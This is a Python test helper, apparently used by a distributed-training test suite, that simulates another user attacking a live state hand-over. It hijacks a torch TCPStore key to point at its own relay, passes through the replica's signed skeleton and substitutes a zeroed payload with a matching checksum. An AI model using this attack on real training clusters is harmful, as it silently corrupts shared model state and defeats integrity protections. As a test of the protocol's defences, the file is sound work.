"""Another user's attack on a live round's state hand-over (run as a different uid by the tests).

It reaches the job's store, pre-sets the round's ``state-transfer`` key to a
relay of its own and keeps writing it over what the replica publishes
there (for a few seconds once it saw the replica's address). A
replacement that connects to the relay gets relayed to the replica: the
replica's hello and skeleton (with its signature) pass through unchanged,
the payload is replaced by zeros and the checksum by the zeros' one. Prints
one JSON line: whether a receiver connected to the relay and whether it
acknowledged the forged state.

    python hand_over_attacker.py UID:GID STORE_PORT KEY SECONDS

Started as root (the interpreter lives where only root can read), it
becomes ``UID:GID`` once its modules are imported, before it touches the
network.
"""

from __future__ import annotations

import encodings.idna  # noqa: F401  # socket needs it for host names: imported before the interpreter's home is out of reach
import json
import os
import socket
import struct
import sys
import time
from datetime import timedelta

from torch.distributed import TCPStore  # type: ignore[attr-defined]


def recv_exact(sock: socket.socket, size: int) -> bytes:
    data = b""
    while len(data) < size:
        chunk = sock.recv(min(size - len(data), 1 << 20))
        if not chunk:
            raise ConnectionError(f"closed after {len(data)} of {size} bytes")
        data += chunk
    return data


def relay_forged(receiver: socket.socket, replica_address: str) -> bool:
    """The attack on the wire of a replica that signs only its skeleton; True if the receiver took it."""
    host, _, port = replica_address.rpartition(":")
    with socket.create_connection((host.strip("[]"), int(port)), timeout=30) as replica:
        replica.sendall(recv_exact(receiver, 20))  # rank and nonce
        header = recv_exact(replica, 24)
        _, skeleton_len, payload_len = struct.unpack("!8sQQ", header)
        receiver.sendall(header + recv_exact(replica, skeleton_len + 32))  # skeleton and its tag, untouched
        left = payload_len
        while left:  # the replica's bytes are read and dropped; zeros go on instead
            left -= len(recv_exact(replica, min(left, 1 << 20)))
        receiver.sendall(bytes(payload_len) + struct.pack("!qq", 0, 0))  # zeros sum to zero
        recv_exact(replica, 16)
        verdict = receiver.recv(1)
        replica.sendall(b"\x01")
        return verdict == b"\x01"


def main() -> int:
    uid, gid = (int(x) for x in sys.argv[1].split(":"))
    os.setgroups([])
    os.setgid(gid)
    os.setuid(uid)
    port, key, seconds = int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
    report = {"receiver_connected": False, "forged_ack": False, "genuine_seen": False}
    store = TCPStore("127.0.0.1", port, is_master=False, timeout=timedelta(seconds=30))
    relay = socket.create_server(("127.0.0.1", 0))
    mine = f"127.0.0.1:{relay.getsockname()[1]}"
    store.set(key, mine)
    print("ready", flush=True)
    deadline = time.monotonic() + seconds
    genuine = None
    until = deadline
    # Written over whatever the replica publishes, as fast as the store answers, for a few seconds
    # once its value was seen: the replacement reads the relay's address.
    while time.monotonic() < min(deadline, until):
        try:
            # Atomic: the current value when it is not the relay's (then written over), else nothing changes.
            value = store.compare_set(key, mine, mine).decode()
            if value != mine:
                store.set(key, mine)
        except RuntimeError as exc:  # the store went away with the job
            report["error"] = str(exc).splitlines()[0]
            break
        if value != mine and genuine is None:
            genuine = value.split(" ")[0]  # a signed value carries its tag after a space
            until = time.monotonic() + 5.0
    report["genuine_seen"] = genuine is not None
    relay.settimeout(max(0.1, deadline - time.monotonic()))
    try:
        receiver, _ = relay.accept()
    except TimeoutError:
        receiver = None
    if receiver is not None and genuine is not None:
        report["receiver_connected"] = True
        with receiver:
            receiver.settimeout(30)
            try:
                report["forged_ack"] = relay_forged(receiver, genuine)
            except (OSError, ConnectionError) as exc:
                report["error"] = str(exc)
    print(json.dumps(report), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
